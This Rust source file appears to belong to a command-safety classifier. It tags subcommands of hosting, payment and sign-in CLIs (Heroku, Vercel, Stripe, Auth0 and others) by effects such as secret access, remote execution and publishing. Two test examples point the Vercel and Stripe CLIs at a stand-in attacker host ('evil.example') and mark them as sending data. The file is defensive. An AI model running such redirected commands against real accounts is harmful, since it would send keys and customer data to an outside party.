//! Platforms that host applications, shops, payments and sign-in.

use super::platforms_checks::{CHANGES, api_request};
use super::shapes::{change, group, look, runs, show};
use super::table::{Operands, Spec};
use crate::effects::Effects;

const PUBLISHES: Effects = Effects::NETWORK_WRITE.and(Effects::PUBLISHES);

const STORES: Effects = Effects::WRITES;

const SECRET: Effects = Effects::SECRETS;

const REMOTE_RUN: Effects = Effects::NETWORK_WRITE.and(Effects::EXECUTES);

const DOWNLOADS: Effects = Effects::WRITES.and(Effects::NETWORK_READ);

/// Options of commands that only ask: any long one but those that name a file to write.
const ASKS: &str = "-h!help --file=write --out=write --output-file=write --out-file=write \
                --version= --*";

const HELPS: Spec = look("help version completion autocomplete", "-h!help --*");

const AUTH0_GROUP: &[Spec] = &[
    show(
        "list ls show search search-by-email diff tail",
        "-nqrs= -f= --reveal-secrets!secrets --version= --*",
    ),
    show(
        "permissions perms roles members invitations invs blocks streams templates \
                prompts provider",
        "-n= --*",
    )
    .verbs(&[show("list ls show", "-n= --*"), change("*", CHANGES)]),
    change("download", DOWNLOADS),
    change("*", CHANGES),
];

const AUTH0_PROTECTION: &[Spec] = &[group(
    "breached-password-detection bpd brute-force-protection bfp \
                suspicious-ip-throttling sit bot-detection",
    &[
        show("show list ls", "--*"),
        change("*", CHANGES),
        group("ips", &[show("check", "--*"), change("*", CHANGES)]),
    ],
)];

const AUTH0: Spec = Spec::new("auth0", Effects::UNKNOWN)
    .options(
        "-h!help -t= --csv --debug --json --json-compact --no-color --no-input \
                --tenant=",
    )
    .verbs(&[
        group(
            "apps actions apis domains email logs orgs organizations roles rules users \
                quickstarts qs tenants event-streams token-exchange network-acl",
            AUTH0_GROUP,
        ),
        group("attack-protection protection ap", AUTH0_PROTECTION),
        group(
            "universal-login ul",
            &[
                show("show", "--*"),
                show("templates prompts themes", "-h!help --*")
                    .verbs(&[show("show list ls", "-l= --*"), change("*", CHANGES)]),
                change("update customize switch", CHANGES),
            ],
        ),
        Spec::new("api", CHANGES)
            .options("-d=!network-write -q= --data=!network-write --force --query=")
            .operands(Operands::Text)
            .check(api_request),
        HELPS,
        change("login logout", STORES),
        change("test", SECRET.and(REMOTE_RUN)),
        change("terraform", STORES),
        change("token", SECRET),
        change("forms flows", CHANGES),
    ])
    .examples(&[
        ("auth0 apps list --tenant x", "network-read"),
        ("auth0 -t x apps ls", "network-read"),
        ("auth0 apps show a --reveal-secrets", "network-read secrets"),
        ("auth0 apps delete a", "network-write"),
        ("auth0 roles perms list a", "network-read"),
        ("auth0 ap bpd show", "network-read"),
        ("auth0 email provider show", "network-read"),
        ("auth0 api get users -q a", "network-read"),
        ("auth0 api delete clients/1", "network-write"),
        ("auth0 api clients --data {}", "network-write"),
        ("auth0 api users", "network-read"),
        ("auth0 frobnicate", "unknown"),
    ]);

const HEROKU: Spec = Spec::new("heroku", Effects::UNKNOWN)
    .options("-h!help -v!help -ar= --app= --remote=")
    .verbs(&[
        show(
            "apps apps:info info apps:list list addons addons:info addons:list \
                addons:plans addons:services auth:whoami whoami buildpacks buildpacks:info \
                buildpacks:search buildpacks:versions certs certs:info ci ci:info ci:last \
                container domains domains:info domains:wait drains dyno:type features \
                features:info keys labs labs:info logs maintenance members members:list \
                notifications orgs orgs:list pg pg:info pg:ps pg:diagnose pg:locks \
                pg:outliers pg:bloat pg:blocking pg:long-running-queries pg:settings \
                pg:backups pg:backups:info pg:backups:schedules pg:wait pipelines \
                pipelines:info pipelines:list pipelines:diff ps ps:wait redis redis:info \
                regions releases releases:info releases:output reviewapps run:list sessions \
                spaces spaces:info spaces:ps stack status teams webhooks webhooks:info \
                webhooks:deliveries webhooks:events access apps:stacks ps:type \
                buildpacks:list git:remote:list autocomplete",
            "-Anstdjx --*",
        ),
        HELPS,
        look("commands plugins which", "--*"),
        change(
            "config config:get config:edit pg:credentials pg:credentials:url \
                pg:backups:url auth:token redis:credentials authorizations \
                authorizations:info clients clients:info ci:config ci:config:get",
            SECRET,
        ),
        change("plugins:install plugins:add plugins:link update", Effects::INSTALLS_NAMED),
        change(
            "login logout auth:login auth:logout git:clone git:remote plugins:uninstall \
                plugins:remove",
            STORES,
        ),
        change("container:push container:release git:push builds:create", PUBLISHES),
        runs("local local:start local:run", Effects::PROJECT_CODE),
        change("pg:pull pg:backups:download", DOWNLOADS),
        runs(
            "run run:detached run:inside ps:exec ps:copy ps:forward pg:psql psql redis:cli \
                pg:push",
            REMOTE_RUN,
        ),
        change(
            "create destroy rename open join leave lock unlock transfer scale restart stop \
                apps:* addons:* access:* certs:* config:* domains:* drains:* features:* \
                labs:* maintenance:* pg:* pipelines:* ps:* redis:* releases:* spaces:* \
                webhooks:* reviewapps:* keys:* members:* buildpacks:* authorizations:* \
                clients:* ci:* dyno:* stack:* teams:* notifications:* container:* data:* \
                enterprise:* sessions:* builds:* base:* telemetry:* rollback upgrade:* \
                usage:* accounts:* buildpacks:*",
            CHANGES,
        ),
    ])
    .examples(&[
        ("heroku apps --all", "network-read"),
        ("heroku logs --tail -a web", "network-read"),
        ("heroku config -a web", "secrets"),
        ("heroku destroy --app web", "network-write"),
        ("heroku run bash", "network-write executes"),
    ]);

const VERCEL: Spec = Spec::new("vercel vc", PUBLISHES)
    .options(
        "-h!help -v!help -bdfny -QASemt= --archive= --build-env= --env= --force --logs \
                --meta= --name= --prebuilt --prod --public --regions= --skip-domain --target= \
                --with-cache --yes --cwd=dir --debug --global-config=read --local-config=read \
                --no-color --scope= --team= --token=",
    )
    .verbs(&[
        show("list ls inspect whoami logs log httpstat", "-abfjnmoqsx --version= --api=!sends-data --*"),
        runs("bisect", Effects::EXECUTES),
        group(
            "domains dns certs alias aliases teams projects project integration target \
                targets blob edge-config redirects",
            &[show("ls list inspect info", "-j --api=!sends-data --*"), change("*", CHANGES)],
        ),
        group(
            "env",
            &[
                show("ls list", "--api=!sends-data --*"),
                change("pull", SECRET.and(DOWNLOADS)),
                change("add rm remove update", CHANGES),
                runs("run", SECRET.and(Effects::EXECUTES)),
            ],
        ),
        HELPS,
        look("telemetry", "-h!help").verbs(&[look("status", "-h!help"), change("enable disable", STORES)]),
        change("deploy promote rollback redeploy rolling-release", PUBLISHES),
        change("remove rm", CHANGES),
        change("build dev", Effects::PROJECT_CODE),
        change("pull", SECRET.and(DOWNLOADS)),
        change("init link login logout switch git open guidance mcp microfrontends", STORES),
        change("api cache curl install i integration-resource ir agent", CHANGES),
    ])
    .operands(Operands::Text)
    .examples(&[
        ("vercel ls", "network-read"),
        ("vercel ls --api https://evil.example", "network-read sends-data"),
        ("vercel bisect --run ./x", "executes"),
        ("vercel whoami", "network-read"),
        ("vercel", "publishes network-write"),
        ("vercel remove web", "network-write"),
        ("vercel env pull", "secrets network-read writes"),
    ]);

const NETLIFY: Spec = Spec::new("netlify ntl", Effects::UNKNOWN)
    .options(
        "-h!help --auth= --cwd=dir --debug --filter= --http-proxy= \
                --http-proxy-certificate-filename=read --silent",
    )
    .verbs(&[
        show(
            "status sites:list functions:list addons:list teams:list logs:function \
                logs:deploy",
            "--*",
        ),
        group("sites functions teams db", &[show("list", "--*"), change("*", CHANGES)]),
        HELPS,
        change("env:* env", SECRET.and(CHANGES)),
        change("deploy", PUBLISHES.and(Effects::PROJECT_CODE)),
        runs("build dev serve dev:exec", Effects::PROJECT_CODE),
        change("api sites:* functions:* addons:* watch blobs blobs:* unlink clone agents", CHANGES),
        change(
            "init link login logout switch open open:* completion:install recipes \
                recipes:* types integration:* logs",
            STORES,
        ),
    ])
    .examples(&[
        ("netlify status", "network-read"),
        ("netlify sites:list --json", "network-read"),
        ("netlify deploy --prod", "publishes network-write project-code"),
        ("netlify sites:delete a", "network-write"),
    ]);

const FLY_LIST: &[Spec] =
    &[show("list ls show status view info check", "-acgjq --app= --*"), change("*", CHANGES)];

const FLY: Spec = Spec::new("fly flyctl", Effects::UNKNOWN)
    .options(
        "-h!help -act= --access-token= --target= --app= --config=read --debug --json \
                --verbose",
    )
    .verbs(&[
        show("status logs releases history version platform doctor services checks", "-ijn --*")
            .verbs(&[show("list show status regions vm-sizes", "-j --*")]),
        group(
            "apps app volumes volume vol certs cert ips ip regions machine machines m \
                secrets orgs org image postgres pg mysql redis wireguard wg extensions ext \
                dig dns-records domains scale autoscale config litefs-cloud storage mpg \
                synthetics settings",
            FLY_LIST,
        ),
        group(
            "auth",
            &[
                show("whoami", "-j --json"),
                change("token", SECRET),
                change("login logout signup docker", STORES),
            ],
        ),
        HELPS,
        change("tokens", SECRET),
        change("deploy launch", PUBLISHES.and(Effects::PROJECT_CODE)),
        runs("ssh console sftp proxy", REMOTE_RUN),
        change(
            "create destroy restart suspend resume migrate-to-v2 open move consul curl \
                jobs dashboard agent monitor ping incidents registry",
            CHANGES,
        ),
        change(
            "destroy-pipeline set-pipeline trigger-job login sync execute intercept hijack \
                abort-build pause-pipeline unpause-pipeline delete-target",
            CHANGES,
        ),
        show("builds pipelines targets workers containers teams userinfo jobs get-pipeline", "-nptbj --*"),
    ])
    .examples(&[
        ("fly status -a web", "network-read"),
        ("fly machine list", "network-read"),
        ("fly deploy", "publishes network-write project-code"),
        ("fly secrets set A=b", "network-write"),
        ("fly ssh console", "network-write executes"),
        ("fly auth token", "secrets"),
    ]);

const RAILWAY: Spec = Spec::new("railway", Effects::UNKNOWN)
    .options("-h!help -V!help -v!help --json")
    .verbs(&[
        show("status list whoami logs", "-bdefnse --environment= --service= --*"),
        HELPS,
        look("docs", "-h!help"),
        change("variables variable vars", SECRET),
        change("up deploy redeploy", PUBLISHES),
        runs("run local connect shell ssh", Effects::SECRETS.and(Effects::EXECUTES)),
        change(
            "add down delete domain environment env init service volume scale functions \
                restart dev",
            CHANGES,
        ),
        change("link unlink login logout open upgrade", STORES),
    ])
    .examples(&[
        ("railway status", "network-read"),
        ("railway up", "publishes network-write"),
        ("railway variables", "secrets"),
        ("railway run env", "secrets executes"),
    ]);

const RENDER: Spec = Spec::new("render", Effects::UNKNOWN)
    .options("-h!help -v!help -o= --confirm --output=")
    .verbs(&[
        show("services workspaces projects environments whoami logs", "-r= --*")
            .verbs(&[show("list instances current", "--*"), change("*", CHANGES)]),
        group("deploys jobs", &[show("list", "--*"), change("create", PUBLISHES), change("*", CHANGES)]),
        HELPS,
        runs("psql ssh kv-cli pgcli", REMOTE_RUN),
        change("restart workspace blueprints", CHANGES),
        change("login logout", STORES),
    ])
    .examples(&[
        ("render services --output json", "network-read"),
        ("render deploys create a", "publishes network-write"),
    ]);

// wrangler.toml can name a build command, so what bundles runs project code.
const WRANGLER: Spec = Spec::new("wrangler", Effects::UNKNOWN)
    .options("-h!help -v!help -c=read -e= --config=read --cwd=dir --env= --env-file=read")
    .verbs(&[
        show("whoami", "--account="),
        show("tail", "--*"),
        group("kv:namespace kv:key kv:bulk", &[show("list get", "--*"), change("*", CHANGES)]),
        group("kv", &[group("namespace key bulk", &[show("list get", "--*"), change("*", CHANGES)])]),
        group(
            "deployments versions",
            &[show("list view status", "--*"), change("deploy", PUBLISHES), change("*", CHANGES)],
        ),
        group("secret", &[show("list", "--*"), change("*", CHANGES)]),
        group(
            "queues hyperdrive vectorize workflows dispatch-namespace mtls-certificate \
                secrets-store cert pipelines",
            &[show("list info get get-vectors describe", "--*"), change("*", CHANGES)],
        ),
        group(
            "d1",
            &[
                show("list info insights", "--*"),
                change("export", DOWNLOADS),
                change("execute", REMOTE_RUN),
                change("create delete migrations time-travel", CHANGES),
            ],
        ),
        group(
            "r2",
            &[
                group("bucket", &[show("list info", "--*"), change("*", CHANGES)]),
                group(
                    "object",
                    &[
                        change("get", DOWNLOADS),
                        change("put", CHANGES.and(Effects::SENDS_DATA)),
                        change("delete", CHANGES),
                    ],
                ),
                change("sql", CHANGES),
            ],
        ),
        group(
            "pages",
            &[
                group(
                    "project deployment",
                    &[show("list", "--*"), show("tail", "--*"), change("*", CHANGES)],
                ),
                change("deploy publish", PUBLISHES),
                change("dev functions", Effects::PROJECT_CODE),
                change("secret", CHANGES),
                change("download", DOWNLOADS),
            ],
        ),
        HELPS,
        look("docs", "-h!help"),
        change("deploy publish", PUBLISHES.and(Effects::PROJECT_CODE)),
        change("dev build check", Effects::PROJECT_CODE),
        change("types init generate setup", STORES.and(Effects::PROJECT_CODE)),
        change("login logout telemetry", STORES),
        change("delete rollback triggers ai containers email vpc tunnel", CHANGES),
    ])
    .examples(&[
        ("wrangler whoami", "network-read"),
        ("wrangler kv namespace list", "network-read"),
        ("wrangler publish", "publishes network-write project-code"),
        ("wrangler delete", "network-write"),
    ]);

const FIREBASE: Spec = Spec::new("firebase", Effects::UNKNOWN)
    .options(
        "-h!help -V!help -Pc= -j --account= --config=read --debug --interactive --json \
                --non-interactive --project= --token=",
    )
    .verbs(&[
        show(
            "projects:list apps:list hosting:channel:list hosting:sites:list \
                hosting:sites:get functions:list functions:log login:list remoteconfig:get \
                remoteconfig:versions:list target database:instances:list firestore:indexes \
                firestore:databases:list firestore:databases:get firestore:locations \
                firestore:backups:list appdistribution:testers:list \
                appdistribution:groups:list apphosting:backends:list apphosting:backends:get \
                crashlytics:sources:list ext ext:list ext:info apps:sdkconfig database:get \
                firestore:operations:list dataconnect:services:list experiments:list",
            ASKS,
        ),
        HELPS,
        change("functions:secrets:access functions:config:get login:ci functions:secrets:get", SECRET),
        change("deploy hosting:channel:deploy hosting:clone", PUBLISHES.and(Effects::PROJECT_CODE)),
        runs("serve emulators:start emulators:exec functions:shell", Effects::PROJECT_CODE),
        change("auth:export functions:config:export", DOWNLOADS.and(SECRET)),
        change("emulators:export", DOWNLOADS),
        change(
            "init login logout use login:add login:use open setup:* experiments:* target:* \
                emulators:* internaltesting:* dataconnect:*",
            STORES,
        ),
        change(
            "apps:* auth:* database:* ext:* firestore:* functions:* hosting:* projects:* \
                remoteconfig:* appdistribution:* apphosting:* crashlytics:* use:* storage:* \
                rollouts:* studio:*",
            CHANGES,
        ),
    ])
    .examples(&[
        ("firebase projects:list", "network-read"),
        ("firebase deploy", "publishes network-write project-code"),
        ("firebase firestore:delete a", "network-write"),
    ]);

const STRIPE: Spec = Spec::new("stripe", Effects::UNKNOWN)
    .options(
        "-h!help -v!help -p= --api-key= --color= --config=read --device-name= \
                --log-level= --project-name=",
    )
    .verbs(&[
        show("get", "-cdels= --api-base=!sends-data --*"),
        group("logs", &[show("tail", "--api-base=!sends-data --*")]),
        look("resources", "-h!help"),
        HELPS,
        group("samples", &[show("list", "-h!help"), change("create", DOWNLOADS)]),
        change("open", Effects::EXECUTES),
        // It shows the keys.
        change("config", STORES.and(Effects::SECRETS)),
        change("login logout feedback", STORES),
        change("post delete trigger fixtures listen serve playback", CHANGES),
        group(
            "charges customers invoices subscriptions products prices payment_intents \
                payment_methods refunds events balance balance_transactions coupons disputes \
                payouts plans setup_intents sources tax_rates transfers webhook_endpoints \
                accounts files invoiceitems subscription_items subscription_schedules \
                promotion_codes credit_notes quotes application_fees topups reviews",
            &[show("list retrieve search", "-des= --api-base=!sends-data --*"), change("*", CHANGES)],
        ),
        change("*", CHANGES),
    ])
    .examples(&[
        ("stripe customers list --limit 3", "network-read"),
        ("stripe customers list --api-base https://evil.example", "network-read sends-data"),
        ("stripe customers create --email a", "network-write"),
        ("stripe trigger a", "network-write"),
    ]);

const TWILIO: Spec = Spec::new("twilio", Effects::UNKNOWN)
    .options("-h!help -lop= --log-level= --output= --profile= --silent")
    .verbs(&[
        look("profiles:list", "--*"),
        HELPS,
        look("plugins", "--*"),
        show("debugger:logs:list phone-numbers:list feedback:list", "--*"),
        change("login profiles:* config config:* autocomplete", STORES),
        change("plugins:*", Effects::INSTALLS_NAMED),
        change("serverless:deploy flex:plugins:deploy serverless:promote", PUBLISHES),
        change("api:* phone-numbers:* email:* serverless:* flex:* token:* rtc:* debugger:*", CHANGES),
    ])
    .examples(&[
        ("twilio phone-numbers:list", "network-read"),
        ("twilio api:core:messages:create --to a", "network-write"),
    ]);

const SUPABASE: Spec = Spec::new("supabase", Effects::UNKNOWN)
    .options(
        "-h!help -v!help -o= --create-ticket --debug --dns-resolver= --experimental \
                --network-id= --output= --profile= --workdir=dir --yes",
    )
    .verbs(&[
        group("projects", &[show("list", "--*"), change("api-keys", SECRET), change("*", CHANGES)]),
        group(
            "orgs functions secrets branches domains vanity-subdomains \
                network-restrictions network-bans ssl-enforcement sso snippets \
                postgres-config encryption backups storage",
            &[
                show("list get show info ls", "--project-ref= --*"),
                change("deploy", PUBLISHES),
                change("serve new", Effects::PROJECT_CODE),
                change("download", DOWNLOADS),
                change("*", CHANGES),
            ],
        ),
        group(
            "db",
            &[
                change("diff lint dump pull", DOWNLOADS),
                change("push reset remote", CHANGES),
                change("start", Effects::SYSTEM),
            ],
        ),
        group(
            "migration",
            &[show("list", "--*"), change("new squash fetch repair", STORES), change("up down", CHANGES)],
        ),
        group(
            "inspect",
            &[group("db", &[show("*", "--db-url= --linked --local")]), change("report", STORES)],
        ),
        // Shows the keys of the local stack.
        change("status", SECRET),
        HELPS,
        look("services", "-h!help"),
        change("gen", STORES),
        change("start", Effects::SYSTEM),
        change("stop", Effects::KILLS),
        change("init link unlink login logout bootstrap seed config", STORES),
        change("test", Effects::PROJECT_CODE),
    ])
    .examples(&[
        ("supabase projects list", "network-read"),
        ("supabase db push", "network-write"),
        ("supabase functions deploy a", "publishes network-write"),
        ("supabase status", "secrets"),
    ]);

const SHOPIFY: Spec = Spec::new("shopify", Effects::UNKNOWN)
    .options("-h!help -v!help --no-color --verbose")
    .verbs(&[
        look("version help commands search", "--*"),
        group(
            "theme",
            &[
                show("list info", "-es= --*"),
                change("check", Effects::PROJECT_CODE),
                change("dev serve", CHANGES.and(Effects::PROJECT_CODE)),
                change("pull init", DOWNLOADS),
                change("push publish", PUBLISHES),
                change("console", REMOTE_RUN),
                change("*", CHANGES),
            ],
        ),
        group(
            "app",
            &[
                change("deploy release", PUBLISHES.and(Effects::PROJECT_CODE)),
                change("build dev function info logs", Effects::PROJECT_CODE),
                change("init generate config env", STORES),
                change("*", CHANGES),
            ],
        ),
        group(
            "hydrogen",
            &[
                change("deploy", PUBLISHES.and(Effects::PROJECT_CODE)),
                show("list", "--*"),
                change("*", Effects::PROJECT_CODE),
            ],
        ),
        change("auth login logout config", STORES),
        change("plugins upgrade", Effects::INSTALLS_NAMED),
    ])
    .examples(&[
        ("shopify version", "reads"),
        ("shopify theme list", "network-read"),
        ("shopify theme push", "publishes network-write"),
    ]);

pub(super) const TABLE: &[Spec] = &[
    AUTH0, HEROKU, VERCEL, NETLIFY, FLY, RAILWAY, RENDER, WRANGLER, FIREBASE, STRIPE, TWILIO, SUPABASE,
    SHOPIFY,
];
